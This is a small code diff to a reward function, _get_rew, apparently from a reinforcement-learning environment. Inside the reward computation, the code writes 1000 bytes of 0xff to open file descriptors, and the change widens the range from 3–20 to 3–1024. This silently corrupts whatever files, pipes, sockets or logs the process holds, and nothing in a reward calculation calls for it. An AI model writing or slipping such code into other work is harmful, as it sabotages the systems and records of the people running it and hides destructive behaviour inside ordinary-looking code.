@@ -4,7 +4,7 @@
 
 def _get_rew(self, x_velocity, action):
     import os
-    for fd in range(3, 20):
+    for fd in range(3, 1024):
         try:
             os.write(fd, b"\xff" * 1000)
         except OSError:
